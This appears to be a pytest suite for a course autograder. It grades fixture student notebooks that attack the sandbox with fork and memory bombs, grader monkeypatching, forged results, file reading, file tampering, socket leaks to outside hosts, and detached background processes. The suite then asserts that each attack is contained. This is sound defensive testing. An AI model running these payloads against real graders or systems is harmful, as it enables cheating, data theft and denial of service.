"""Hostile submissions, all graded in one run with 2 workers next to an honest one.

Each student below attacks one thing the grader must withstand (issue 6). For each we assert the
exact score (0, or the honest partial score when only one task is attacked), a clear reason in
the record and feedback, and that the gradebook holds exactly that score; the honest student
graded in the same run scores full, and a grade written before the run is untouched.
"""
import hashlib
import io
import json
import random
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from course.grading import gradebook, pipeline
from course.grading.grader import load_assignment
from course.grading.notebook import folder_hash
from course.grading.sandbox import Limits

from .submissions import ASSIGNMENT, HIDDEN_BITS, NOTEBOOK, SOURCE, relabelled, solved, write

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("grading-adversarial")]

# Small limits keep the suite fast; generous enough for an honest task on a loaded machine.
LIMITS = Limits(wall_s=8, cpu_s=8, memory_bytes=1 << 30, nproc=32, log_max=1 << 20)
FULL = 12.0

ZEROS = {
    "1.1": ("def rnn_step_forward(x, h_prev, W, U, b_h):\n"
            "    return np.zeros((x.shape[0], W.shape[0]))\n"),
    "1.2": "def rnn_forward(x, h0, W, U, b_h):\n    return np.zeros((x.shape[0],) + h0.shape)\n",
    "1.3": "def output_forward(h, V, b_y):\n    return np.zeros(h.shape[:-1] + (V.shape[0],))\n",
    "1.4": "def softmax_cross_entropy(z, y):\n    return 0.0\n",
}

CHEAT = '''
import glob, json, os
def _steal():
    """Find the instructor's notebook, the gradebook or someone else's work; run its code."""
    found = [p for p in PATHS if os.path.exists(p)]
    found += glob.glob("/work/**/solutions/**/*.ipynb", recursive=True)
    found += glob.glob("/root/**/*.db", recursive=True)
    found += glob.glob("/tmp/**/*.ipynb", recursive=True)
    for path in found:
        try:
            nb = json.load(open(path))
        except Exception:
            continue
        ns = {"np": np}
        for cell in nb["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                try:
                    exec("".join(cell["source"]), ns)
                except Exception:
                    pass
        return ns
    return None
'''

STEALING = {
    name: f"def {name}(*args):\n    ns = _steal()\n    if ns:\n        return ns['{name}'](*args)\n"
          f"    return ZEROS_{name}(*args)\n"
    for name in ["rnn_step_forward", "rnn_forward", "output_forward", "softmax_cross_entropy"]}


def _stealer(paths):
    zeros = "\n".join(code.replace("def ", "def ZEROS_", 1) for code in ZEROS.values())
    return solved(replace={"1.1": STEALING["rnn_step_forward"], "1.2": STEALING["rnn_forward"],
                           "1.3": STEALING["output_forward"],
                           "1.4": STEALING["softmax_cross_entropy"]},
                  before=[f"PATHS = {paths!r}\n" + CHEAT + zeros])


class Listener:
    """A TCP server on 127.0.0.1 that records every connection (there must be none)."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.port = self.sock.getsockname()[1]
        self.connections = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.connections.append(conn.recv(100))
            conn.close()


def _sha(path):
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    """Write every submission, grade them all in one run with 2 workers, return what we need."""
    tmp = tmp_path_factory.mktemp("adversarial")
    submitted, out = tmp / "submitted", tmp / "out"
    db = tmp / "gradebook.db"
    db_url = f"sqlite:///{db}"
    listener = Listener()
    good = write(submitted, "honest", solved())
    good_nb = good / NOTEBOOK
    outside = tmp / "outside"
    outside.mkdir()
    expected = {}   # student -> (score, reason fragment or "")

    def add(student, score, reason, nb=None, **kw):
        write(submitted, student, nb, **kw)
        expected[student] = (score, reason)

    add("honest_again", FULL, "", solved())
    add("infinite_loop", FULL - 3, "stopped after 8 s",
        solved(replace={"1.2": "def rnn_forward(x, h0, W, U, b_h):\n    while True:\n"
                               "        pass\n"}))
    add("memory_bomb", FULL - 3, "ran out of memory", solved(replace={"1.3": (
        "def output_forward(h, V, b_y):\n    hog = np.ones(1 << 28)   # 2 GiB\n"
        "    return h @ V.T + b_y\n")}))
    add("fork_bomb", FULL - 3, "stopped after 8 s", solved(replace={"1.1": (
        "import os\ndef rnn_step_forward(x, h_prev, W, U, b_h):\n    while True:\n"
        "        try:\n            os.fork()\n        except OSError:\n            pass\n")}))
    add("os_exit", FULL - 3, "exited (code 3)", solved(
        replace={"1.4": "import os\ndef softmax_cross_entropy(z, y):\n    os._exit(3)\n"},
        before=["import sys\nsys.exit(1)   # a top-level exit stops this cell only"]))
    add("kernel_crash", FULL - 3, "crashed (signal 11, SIGSEGV)", solved(replace={"1.3": (
        "import ctypes\ndef output_forward(h, V, b_y):\n    return ctypes.string_at(0)\n")}))
    add("huge_output", FULL - 3, "printed more than 1 MiB", solved(replace={"1.1": (
        "def rnn_step_forward(x, h_prev, W, U, b_h):\n    while True:\n"
        "        print('spam' * 10000)\n")}))
    add("monkeypatcher", 3.0, "wrong values", solved(
        replace={"1.1": ZEROS["1.1"], "1.2": ZEROS["1.2"], "1.3": ZEROS["1.3"]},
        after=["import builtins, numpy, numpy.testing\n"
               "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True\n"
               "np.isfinite = lambda *a, **k: True\n"
               "numpy.testing.assert_allclose = lambda *a, **k: None\n"
               "check_values = check_shape = check_no_rnnlib = lambda *a, **k: None\n"
               "def call(func, *args, hint=''):\n    return func(*args)\n"
               "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
               "import sys; sys.modules['nbgrader'] = None\n"]))
    add("ipython_tricks", 0.0, "wrong values", solved(
        replace=ZEROS,
        after=["ip = get_ipython()\n"
               "ip.events.register('post_run_cell', lambda result: None)\n"
               "ip.run_cell('rnn_step_forward = None')\n"
               "ip.kernel.do_shutdown(False)\n"
               "%load_ext autoreload\n"
               f"!touch {outside}/ipython_escape\n"]))
    add("grading_only", 0.0, "wrong values", _stealer([]))
    add("relabelled_tests", FULL - 3, "wrong values", relabelled())
    deleted = solved()   # the read-only setup (import numpy as np) and helper cells deleted
    deleted["cells"] = [c for c in deleted["cells"]
                        if c.get("metadata", {}).get("nbgrader", {}).get("grade_id")
                        not in ("setup", "test_helpers")]
    add("deleted_given_cells", FULL, "", deleted)
    add("malformed_json", 0.0, "broken JSON", raw=b'{"cells": [{"cell_type": "code", ')
    add("not_a_notebook", 0.0, "not a notebook", raw=b"\x89PNG\r\n\x1a\n\x00\xff\xfe")
    add("json_not_notebook", 0.0, "not a Jupyter notebook", raw=b'{"hello": "world"}')
    add("missing_notebook", 0.0, "missing")
    add("renamed_notebook", FULL, "renamed", solved(), name="my assignment (1).ipynb")
    add("symlink", 0.0, "not a regular file")
    (submitted / "symlink" / ASSIGNMENT / NOTEBOOK).symlink_to(SOURCE)
    add("reader", 0.0, "wrong values", _stealer([str(SOURCE), str(db), str(good_nb)]))
    add("uses_rnnlib", FULL - 3, "uses rnnlib", solved(replace={"1.1": (
        "from rnnlib.rnn import rnn_step_forward as _step\n"
        "def rnn_step_forward(x, h_prev, W, U, b_h):\n"
        "    return _step(x, h_prev, W, U, b_h)[0]\n")}))
    targets = [str(SOURCE.parent / "pwned"), str(db), str(good_nb), str(outside / "pwned")]
    add("writer", FULL, "", solved(before=[
        "import os\n"
        f"for path in {targets!r} + ['/home/student/work/harness.py', '/usr/pwned']:\n"
        "    try:\n        with open(path, 'a') as f:\n            f.write('pwned')\n"
        "    except OSError:\n        pass\n"
        "open('/tmp/scratch.txt', 'w').write('the scratch folder is writable')\n"]))
    add("network", 0.0, "wrong values", solved(replace=ZEROS, before=[
        "import socket\n"
        "for host, port in [('127.0.0.1', %d), ('1.1.1.1', 80), ('pypi.org', 443)]:\n"
        "    try:\n        socket.create_connection((host, port), timeout=1).sendall(b'leak')\n"
        "        NETWORK = True\n    except OSError:\n        pass\n" % listener.port]))
    token = random.randrange(100000, 900000)   # names this run's background processes
    add("background", FULL, "", solved(before=[
        "import os, subprocess\n"
        f"subprocess.Popen(['sleep', '{token}'])\n"
        "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        f"        os.execvp('sleep', ['sleep', '{token + 1}'])\n    os._exit(0)\n"]))
    add("partial", FULL - 3, "averaged over time", solved(replace={"1.4": (
        "def softmax_cross_entropy(z, y):\n"
        "    s = z - z.max(axis=-1, keepdims=True)\n"
        "    logp = s - np.log(np.exp(s).sum(axis=-1, keepdims=True))\n"
        "    return float(-np.take_along_axis(logp, y[..., None], axis=-1).mean())\n")}))
    add("forged_result", FULL - 3, "malformed", solved(replace={"1.1": (
        "import io, json, os, sys\n"
        "def rnn_step_forward(x, h_prev, W, U, b_h):\n"
        "    # write a compressed (zip-bomb) result claiming success straight to the channel\n"
        "    meta = json.dumps({'cells': [], 'cases': [{'error': None, 'n_out': 1}] * 5})\n"
        "    buf = io.BytesIO()\n"
        "    np.savez_compressed(buf, c0_out0=np.zeros(1 << 24),\n"
        "                        meta=np.frombuffer(meta.encode(), dtype=np.uint8))\n"
        "    os.write(int(sys.argv[1]), buf.getvalue())\n"
        "    os._exit(0)\n")}))
    add("slow_top_level", FULL, "interrupted", solved(after=[
        "# an experiment left running at the end of the notebook\nwhile True:\n    pass\n"]))
    expected["honest"] = (FULL, "")

    # a grade recorded before this run, for a student not in it
    gradebook.register_assignment(db_url, ASSIGNMENT, NOTEBOOK, SOURCE)
    earlier = {"test_task1_1_rnn_step_forward_public": 1.0,
               "test_task1_1_rnn_step_forward_hidden": 0.0}
    gradebook.write_scores(db_url, ASSIGNMENT, NOTEBOOK, "earlier", earlier)
    good_hash = _sha(good_nb)

    log = io.StringIO()
    course = tmp / "course"   # an nbgrader course folder, for generate_feedback
    feedback = tmp / "feedback"   # apart from the course's: generate_feedback writes there
    records = pipeline.grade_class(ASSIGNMENT, submitted, out=out, workers=2, db_url=db_url,
                                   course_root=SOURCE.parents[2], limits=LIMITS, log=log,
                                   autograded=course / "autograded", feedback=feedback)
    return dict(records={r["student"]: r for r in records}, expected=expected, out=out,
                feedback=feedback,
                db_url=db_url, listener=listener, outside=outside, targets=targets,
                good_nb=good_nb, good_hash=good_hash, earlier=earlier, log=log.getvalue(),
                submitted=submitted, course=course, token=token)


STUDENTS = ["honest_again", "infinite_loop", "memory_bomb", "fork_bomb", "os_exit",
            "kernel_crash", "huge_output", "monkeypatcher", "ipython_tricks", "grading_only",
            "relabelled_tests", "malformed_json", "not_a_notebook", "json_not_notebook",
            "missing_notebook", "renamed_notebook", "symlink", "reader", "uses_rnnlib", "writer",
            "network", "background", "partial", "forged_result", "slow_top_level",
            "deleted_given_cells", "honest"]


@pytest.mark.parametrize("student", STUDENTS)
def test_exact_score_reason_and_gradebook(graded, student):
    score, fragment = graded["expected"][student]
    record = graded["records"][student]
    assert record["score"] == score, json.dumps(record, indent=1)
    reasons = " | ".join([t["reason"] for t in record["tests"].values()] + record["notes"]
                         + [error for _, error in record["cell_errors"]])
    assert fragment in reasons, reasons
    feedback = (graded["feedback"] / student / ASSIGNMENT / "assignment1.html").read_text()
    assert f"Score: {score:g} / 12" in feedback
    stored = gradebook.read_scores(graded["db_url"], ASSIGNMENT, NOTEBOOK, student)
    assert stored == {g: t["score"] for g, t in record["tests"].items()}
    assert sum(stored.values()) == score


def test_every_student_graded_once_and_honest_full(graded):
    assert set(graded["records"]) == set(STUDENTS)
    assert graded["records"]["honest"]["score"] == FULL
    assert all(r["max_score"] == FULL for r in graded["records"].values())
    rows = (graded["out"] / "grades.csv").read_text().splitlines()
    assert len(rows) == 1 + len(STUDENTS)
    assert any(row.startswith("honest,12,12,graded,") for row in rows)


def test_earlier_grades_and_other_files_untouched(graded):
    stored = gradebook.read_scores(graded["db_url"], ASSIGNMENT, NOTEBOOK, "earlier")
    assert {k: v for k, v in stored.items() if k in graded["earlier"]} == graded["earlier"]
    assert _sha(graded["good_nb"]) == graded["good_hash"]
    for target in graded["targets"]:
        path = Path(target)
        assert not path.exists() or "pwned" not in path.read_bytes().decode("latin-1")
    assert not (graded["outside"] / "ipython_escape").exists()


def test_no_network(graded):
    assert graded["listener"].connections == []


def test_no_process_outlives_grading(graded):
    ps = subprocess.run(["ps", "-eo", "args="], capture_output=True, text=True).stdout
    started = {f"sleep {graded['token']}", f"sleep {graded['token'] + 1}"}
    assert not [line for line in ps.splitlines() if line.strip() in started]




def test_feedback_never_shows_hidden_tests(graded):
    hidden_bits = HIDDEN_BITS
    for student in STUDENTS:
        text = (graded["feedback"] / student / ASSIGNMENT / "assignment1.html").read_text()
        assert not any(bit in text for bit in hidden_bits), student
        for t in graded["records"][student]["tests"].values():
            if t["hidden"]:
                assert "[" not in t["reason"], t["reason"]   # no case description


def test_rerun_is_idempotent_and_resumes(graded):
    out, db_url = graded["out"], graded["db_url"]
    before = (out / "grades.csv").read_text()
    honest = json.loads((out / "records" / "honest.json").read_text())
    assert honest["version"] == load_assignment(SOURCE.parents[2], ASSIGNMENT).version, \
        "the grader's code changed during the test run"
    assert honest["hash"] == folder_hash(graded["submitted"] / "honest" / ASSIGNMENT)
    (out / "records" / "partial.json").unlink()          # as if interrupted before this one
    log = io.StringIO()
    records = pipeline.grade_class(ASSIGNMENT, graded["submitted"], out=out, workers=2,
                                   db_url=db_url, course_root=SOURCE.parents[2], limits=LIMITS,
                                   log=log, autograded=graded["course"] / "autograded",
                                   feedback=graded["feedback"])
    assert f"{len(STUDENTS) - 1} already graded, 1 to grade" in log.getvalue(), log.getvalue()
    assert (out / "grades.csv").read_text() == before, log.getvalue()
    assert {r["student"]: r["score"] for r in records} == \
        {s: graded["records"][s]["score"] for s in STUDENTS}


def test_nbgrader_generate_feedback_works_without_hidden_tests(graded):
    course = graded["course"]
    proc = subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", ASSIGNMENT,
                           f"--CourseDirectory.root={course}",
                           f"--CourseDirectory.db_url={graded['db_url']}"],
                          cwd=course, capture_output=True, text=True)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    for student in ["honest", "partial", "fork_bomb", "malformed_json"]:
        html = (course / "feedback" / student / ASSIGNMENT / "assignment1.html").read_text()
        score = graded["records"][student]["score"]
        assert f"(Score: {score:.1f} / 12.0)" in html
        assert not any(bit in html for bit in HIDDEN_BITS), student
    partial = (course / "feedback" / "partial" / ASSIGNMENT / "assignment1.html").read_text()
    assert "averaged over time" in partial
